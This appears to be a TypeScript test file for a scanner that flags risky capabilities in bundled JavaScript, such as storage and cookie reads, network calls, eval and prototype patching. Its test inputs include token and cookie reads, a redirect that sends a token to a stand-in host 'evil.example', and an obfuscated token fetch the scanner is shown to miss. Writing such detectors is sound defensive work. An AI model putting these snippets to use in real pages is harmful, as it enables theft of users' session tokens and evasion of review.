import { apiPath } from '@halyard-h5/shared-api/contract';
import { hintsOf } from './hints';

const hintsIn = (text: string): string[] => hintsOf(new Map([['1.js', Buffer.from(text)]])).map(({ reaches }) => reaches);

test.each([
  ['what the browser keeps', 'const t=localStorage.getItem("token")'],
  ['cookies', 'e=document.cookie'],
  ['the network', `fetch("${apiPath('profile.read')}")`],
  ['the network', 'const f=globalThis.fetch;'],
  ['the network', 'new XMLHttpRequest'],
  ['code from strings', 'eval(t)'],
  ['code from strings', 'new Function("return this")()'],
  ['what everybody in the page uses', 'Response.prototype.json=function(){}'],
  ['what everybody in the page uses', 'Object.defineProperty(window,"x",{})'],
  ['another address', 'location.href="//evil.example/?"+t'],
])('%s: %s', (reaches, text) => {
  expect(hintsIn(`(()=>{"use strict";${text}})();`)).toContain(reaches);
});

test('what remotes are made of is no hint: ports, own methods of these names, comparisons, the bundler’s own start', () => {
  const harmless = [
    'const e=host.storage.read("token"),t=api.fetch(x);this.fetch(1);query.fetchNextPage();',
    'if(location===e)return;const{location:n}=props;e.location="top";',
    'globalThis.importScripts&&(e=globalThis.location+"")',
    'a.prototype.render=function(){};isFunction(e);',
  ];
  expect(harmless.flatMap(hintsIn)).toEqual([]);
});

test('it is a hint and no proof: what wants to hide is not found', () => {
  expect(hintsIn('const p=globalThis;p["fe"+"tch"](p[["local","Storage"].join("")].token)')).toEqual([]);
});

test('it says where, in scripts alone', () => {
  const files = new Map([
    ['a.js', Buffer.from('x'.repeat(100) + ';eval(y)')],
    ['a.js.map', Buffer.from('eval(y)')],
    ['a.css', Buffer.from('eval(y)')],
  ]);
  expect(hintsOf(files)).toEqual([{ file: 'a.js', reaches: 'code from strings', excerpt: `${'x'.repeat(39)};eval(y)` }]);
});
